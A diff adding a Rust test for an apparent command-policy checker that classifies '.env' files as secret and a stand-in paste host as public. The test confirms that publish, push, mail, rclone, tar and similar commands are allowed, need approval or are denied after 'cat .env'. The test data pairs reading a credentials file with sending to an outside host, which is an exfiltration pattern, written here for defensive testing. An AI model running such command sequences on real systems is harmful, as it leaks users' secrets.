@@ -247,6 +247,79 @@ fn where_it_goes() {
     }
 }
 
+/// What is published or sent by settings goes to a host that nothing names: it may be any that has a label.
+#[test]
+fn what_settings_send_may_go_anywhere() {
+    const FILES: &str = r#"{"classify":{"secret":["**/.env"],"public":["domain:*.paste.example"]},
+        "flowRules":[{"deny":"secret->public"}]}"#;
+    // What runs the project's own files may read a secret itself.
+    for line in ["npm publish", "yarn npm publish", "cargo publish", "uv publish", "podman push x"] {
+        assert_eq!(Session::new(FILES).line(line), Ask, "{line}");
+    }
+    for line in ["npm test", "npm publish --dry-run", "cargo test publish", "podman ps"] {
+        assert_eq!(Session::new(FILES).line(line), Allow, "{line}");
+    }
+    for line in [
+        "twine upload dist/x.whl",
+        "gem push x.gem",
+        "helm upgrade a b",
+        "helm cm-push a b",
+        "kubectl apply -f x.yaml",
+        "kubectl cp src/m.rs pod:/x",
+        "svn commit -m x",
+        "svn ci",
+        "hg push",
+        "cvs commit",
+        "git send-email x.patch",
+        "rclone copy src remote:x",
+        "lpr src/m.rs",
+        "code tunnel",
+    ] {
+        let mut session = Session::new(FILES);
+        assert_eq!(session.line(line), Allow, "{line}");
+        session.line("cat .env");
+        assert_eq!(session.line(line), Ask, "{line}");
+    }
+    for line in [
+        "mail -s x bob@a.paste.example",
+        "mosh a.paste.example",
+        "tar cf a.paste.example:x src",
+        "emacs /ssh:a.paste.example:/x",
+        "helm push x.tgz oci://a.paste.example/x",
+        "git send-email --smtp-server a.paste.example x.patch",
+        "svn import src https://a.paste.example/x",
+        "hg push https://a.paste.example/x",
+        "rclone copy src :sftp,host=a.paste.example:x",
+    ] {
+        let mut session = Session::new(FILES);
+        assert_eq!(session.line(line), Allow, "{line}");
+        session.line("cat .env");
+        assert_eq!(session.line(line), Deny, "{line}");
+    }
+    for line in [
+        "kubectl get pods",
+        "kubectl logs x",
+        "helm list",
+        "svn status",
+        "svn update",
+        "hg status",
+        "cvs update",
+        "gem list",
+        "twine check dist/x.whl",
+        "git send-email --dry-run x.patch",
+        "rclone version",
+        "tar cf x.tar src",
+        "mail -s x root",
+        "mail -s x bob@elsewhere.example",
+        "mosh elsewhere.example",
+        "helm push x.tgz oci://elsewhere.example/x",
+    ] {
+        let mut session = Session::new(FILES);
+        session.line("cat .env");
+        assert_eq!(session.line(line), Allow, "{line}");
+    }
+}
+
 #[test]
 fn one_line_that_reads_and_sends() {
     let mut session = Session::new(FLOW);
